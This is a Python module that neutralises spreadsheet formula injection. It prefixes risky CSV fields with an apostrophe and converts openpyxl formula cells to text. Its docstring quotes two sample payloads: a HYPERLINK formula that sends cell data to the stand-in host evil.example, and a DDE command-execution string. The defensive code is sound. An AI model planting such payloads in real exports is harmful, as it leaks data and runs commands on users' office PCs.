"""Spreadsheet cells that stay text. File and folder names come from OPD staff; a name such as
`=HYPERLINK("http://evil.example/?"&A1, "klik")` or `=cmd|' /C calc'!A0` must never become a formula on a
coordinator's office PC, and neither may a CSV field that Excel or LibreOffice would read as one."""

from __future__ import annotations

# What spreadsheet programs read as the start of a formula or command in a CSV field (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def inert_csv(value: object) -> object:
    """A CSV field that cannot start a formula: a leading apostrophe, which spreadsheets show as text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def inert_workbook(workbook) -> int:
    """Store every cell openpyxl took for a formula as plain text; returns how many were neutralised."""
    count = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":  # openpyxl: any string starting with "=" is written as a formula
                    cell.data_type = "s"
                    count += 1
    return count
